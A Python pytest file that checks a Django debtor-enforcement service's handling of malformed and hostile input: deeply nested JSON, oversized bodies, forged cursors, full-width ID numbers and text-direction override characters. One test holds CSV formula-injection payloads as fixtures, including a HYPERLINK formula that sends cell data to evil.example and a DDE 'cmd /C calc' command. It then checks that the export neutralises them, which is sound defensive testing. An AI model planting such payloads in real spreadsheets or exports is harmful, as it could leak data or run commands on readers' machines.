"""Bad input gets a 4xx, never a 500, and numbers are read however they are typed (issue 13). Each request goes
through HTTP to a real gunicorn on PostgreSQL: the answer a client gets, status, content type and body."""

import base64
import datetime
import json
import re

import pytest
import requests
from django.urls import reverse
from rest_framework.authtoken.models import Token

from enforcement import identity
from enforcement.models import EnforcementCase, Party
from listings import feed, opendata
from listings.models import CarrierKey, FeedEvent
from tests.enforcement.api.intake_data import as_csv, as_jsonl, judgment_rows
from tests.factories import PersonFactory
from tests.servers import client_from, gunicorn, post_form

pytestmark = [pytest.mark.postgres, pytest.mark.django_db(transaction=True)]

WIDE = str.maketrans("0123456789X()", "０１２３４５６７８９Ｘ（）")


def full_width(text: str) -> str:
    """As a Chinese input method types it, with a zero-width space and a BOM pasted in."""
    wide = text.translate(WIDE)
    return f"\ufeff{wide[:6]}\u200b{wide[6:]}"


@pytest.fixture
def carrier_key(db):
    _key, secret = CarrierKey.objects.create_key(name="air", organisation="Air", categories=["air_travel"])
    return {"Authorization": f"Api-Key {secret}", "Accept-Language": "en"}


@pytest.fixture
def staff_token(clerk):
    return {"Authorization": f"Token {Token.objects.get_or_create(user=clerk)[0].key}", "Accept-Language": "en"}


def json_answer(response, status: int) -> dict:
    assert response.status_code == status, (response.status_code, response.text[:300])
    assert response.headers["Content-Type"].startswith("application/json"), response.headers["Content-Type"]
    return response.json()


def test_nested_oversized_and_non_latin1_requests_answer_4xx_in_json(walk, carrier_key, staff_token):
    case = walk.defaulted()
    nested = b"[" * 100_000
    with gunicorn(workers=2) as url:
        for path, headers in (
            ("/api/v1/checks/", carrier_key),
            ("/api/v1/checks/batch/", carrier_key),
            ("/api/v1/parties/", staff_token),
            ("/api/v1/cases/", staff_token),
            (f"/api/v1/cases/{case.pk}/close/", staff_token),
        ):
            sent = requests.post(
                f"{url}{path}", data=nested, headers={**headers, "Content-Type": "application/json"}, timeout=60
            )
            assert "nested too deeply" in json_answer(sent, 400)["detail"], path

        huge = requests.post(
            f"{url}/api/v1/checks/",
            data=b'{"id_number": "' + b"1" * (30 * 2**20) + b'"}',
            headers={**carrier_key, "Content-Type": "application/json"},
            timeout=120,
        )
        assert "too large" in json_answer(huge, 400)["detail"]

        for key in ("ключ-1", "键🔑", "\u202ekey"):
            paid = requests.post(
                f"{url}/api/v1/cases/{case.pk}/payments/",
                data=json.dumps({"amount": "1.00", "paid_on": str(case.filed_on), "method": "bank_transfer"}),
                headers={**staff_token, "Content-Type": "application/json", "Idempotency-Key": key.encode()},
                timeout=30,
            )
            assert "printable ASCII" in json_answer(paid, 400)["Idempotency-Key"][0]


def test_forged_cursors_answer_400_and_given_ones_read_on(walk, carrier_key, staff_token):
    walk.listed()
    given = feed.encode_cursor(FeedEvent.objects.values_list("xid", "id").order_by("id").first())
    with gunicorn(workers=2) as url:
        forged_page = base64.urlsafe_b64encode(b"p=2026-01-01").decode()
        cases = requests.get(f"{url}/api/v1/cases/", params={"cursor": forged_page}, headers=staff_token, timeout=30)
        assert "cursor" in json_answer(cases, 400)["detail"]
        first = json_answer(requests.get(f"{url}/api/v1/cases/", headers=staff_token, timeout=30), 200)
        assert first["results"]

        never_given = feed.encode_cursor((7, 987_654))  # well-formed: (xid, id) of no event
        changes = requests.get(f"{url}/api/v1/changes/", params={"after": never_given}, headers=carrier_key, timeout=30)
        assert "not one the feed gave" in json_answer(changes, 400)["detail"]
        assert json_answer(
            requests.get(f"{url}/api/v1/changes/", params={"after": given}, headers=carrier_key, timeout=30), 200
        )["events"]


def test_a_jsonl_line_nested_five_thousand_deep_is_a_rejected_row(court, staff_token):
    rows = judgment_rows(court.code, 2)
    content = as_jsonl(rows[:1]) + b"[" * 5000 + b"\n" + as_jsonl(rows[1:])
    with gunicorn(workers=1) as url:
        answer = requests.post(
            f"{url}/api/v1/intake/",
            data={"court": court.code},
            files={"file": ("judgments.jsonl", content)},
            headers=staff_token,
            timeout=60,
        )
    body = json_answer(answer, 201)
    assert (body["rows_created"], body["rows_rejected"]) == (2, 1)
    assert body["rejections"][0]["line"] == 2
    assert "nested too deeply" in body["rejections"][0]["message"]


def test_full_width_and_invisible_characters_are_read_as_the_number_everywhere(walk, court, carrier_key, staff_token):
    case = walk.listed()
    number = case.debtor.id_number
    typed = full_width(number)
    typed_case = full_width(case.case_number)
    with gunicorn(workers=2) as url:
        # The public search: typed in the name field, it is searched as the ID number, not redirected to a URL.
        searched = post_form(client_from(1), url, "/", {"name": typed})
        assert searched.status_code == 200
        assert identity.mask_id_number(number) in searched.text
        assert case.case_number in searched.text
        # The public search by case number, and the JSON list's filter.
        by_case = client_from(1).get(f"{url}/", params={"case_number": typed_case}, timeout=30)
        assert case.case_number in by_case.text
        listed = client_from(1).get(f"{url}/api/v1/listings/", params={"case_number": typed_case}, timeout=30)
        assert [e["case_number"] for e in json_answer(listed, 200)["results"]] == [case.case_number]
        # The debtor's status check: both typed full-width.
        status = post_form(client_from(2), url, "/status/", {"case_number": typed_case, "id_number": typed})
        assert status.status_code == 302
        assert status.headers["Location"] == reverse("appeals:my_case")
        # The carriers' check, and the court systems' party lookup.
        checked = requests.post(
            f"{url}/api/v1/checks/",
            json={"id_number": typed, "category": "air_travel"},
            headers=carrier_key,
            timeout=30,
        )
        assert json_answer(checked, 200)["restricted"] is True
        parties = requests.get(f"{url}/api/v1/parties/", params={"id_number": typed}, headers=staff_token, timeout=30)
        assert [p["id"] for p in json_answer(parties, 200)] == [case.debtor.pk]
        # Intake: a file typed with full-width numbers opens the case under the numbers as stored.
        row = judgment_rows(court.code, 1, start=900)[0]
        expected_number, expected_case = row["debtor_id_number"], row["case_number"]
        row["debtor_id_number"], row["case_number"] = full_width(expected_number), full_width(expected_case)
        taken = requests.post(
            f"{url}/api/v1/intake/",
            data={"court": court.code},
            files={"file": ("judgments.csv", as_csv([row]))},
            headers=staff_token,
            timeout=60,
        )
        assert json_answer(taken, 201)["rows_created"] == 1
    opened = EnforcementCase.objects.get(case_number=expected_case)
    assert opened.debtor.id_number == expected_number


def test_an_old_fifteen_digit_resident_id_is_answered_for_the_person_or_refused(walk, carrier_key):
    person = PersonFactory(birth=datetime.date(1975, 6, 30))
    walk.restricted(debtor=person)
    old = person.id_number[:6] + person.id_number[8:17]  # the first-generation form: no century, no check
    with gunicorn(workers=1) as url:
        checked = requests.post(
            f"{url}/api/v1/checks/", json={"id_number": old, "category": "air_travel"}, headers=carrier_key, timeout=30
        )
        assert json_answer(checked, 200)["restricted"] is True
        batch = requests.post(
            f"{url}/api/v1/checks/batch/",
            json={"id_numbers": [old, "110101751399123"], "category": "air_travel"},
            headers=carrier_key,
            timeout=30,
        )
        first, impossible = json_answer(batch, 200)["results"]
        assert (first["id_number"], first["restricted"]) == (person.id_number, True)
        assert impossible["restricted"] is None
        assert "15-digit" in impossible["error"]
        refused = requests.post(
            f"{url}/api/v1/checks/",
            json={"id_number": "110101751399123", "category": "air_travel"},
            headers=carrier_key,
            timeout=30,
        )
        assert "15-digit" in json_answer(refused, 400)["id_number"][0]


def test_formulas_are_neutralised_in_the_open_data_csv_and_names_with_direction_overrides_refused(
    walk, court, staff_token, settings, tmp_path
):
    settings.OPEN_DATA_ROOT = str(tmp_path)
    rows = judgment_rows(court.code, 3, start=700)
    rows[0]["debtor_name"] = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    rows[0]["obligation"] = "=cmd|' /C calc'!A0"
    rows[1]["debtor_name"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    rows[2]["debtor_name"] = "张\u202e三"
    with gunicorn(workers=1, settings={"OPEN_DATA_ROOT": str(tmp_path)}) as url:
        taken = json_answer(
            requests.post(
                f"{url}/api/v1/intake/",
                data={"court": court.code},
                files={"file": ("judgments.csv", as_csv(rows))},
                headers=staff_token,
                timeout=60,
            ),
            201,
        )
        assert (taken["rows_created"], taken["rows_rejected"]) == (2, 1)
        assert taken["rejections"][0]["field"] == "debtor_name"
        assert "direction" in taken["rejections"][0]["message"]
        party = requests.post(
            f"{url}/api/v1/parties/",
            json={
                "kind": "person",
                "name": "李\u202e四",
                "id_type": "resident_id",
                "id_number": rows[2]["debtor_id_number"],
            },
            headers=staff_token,
            timeout=30,
        )
        assert "direction" in json_answer(party, 400)["name"][0]

        for row in rows[:2]:
            walk.listed(EnforcementCase.objects.get(case_number=row["case_number"]))
        opendata.export()
        csv_text = client_from(1).get(f"{url}/open-data/dishonest-debtors.csv", timeout=30).content.decode("utf-8-sig")
        jsonl = client_from(1).get(f"{url}/open-data/dishonest-debtors.jsonl", timeout=30).text

    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"' in csv_text
    assert "'=cmd|' /C calc'!A0" in csv_text
    assert "'@SUM(1+1)" in csv_text
    assert not re.search(r"(^|,)[=+@-]", csv_text, re.MULTILINE)  # no cell starts a formula
    # JSON Lines is no spreadsheet: the name is there as it was written.
    assert rows[0]["debtor_name"] in {json.loads(line)["name"] for line in jsonl.splitlines()}
    assert not Party.objects.filter(name__contains="\u202e").exists()
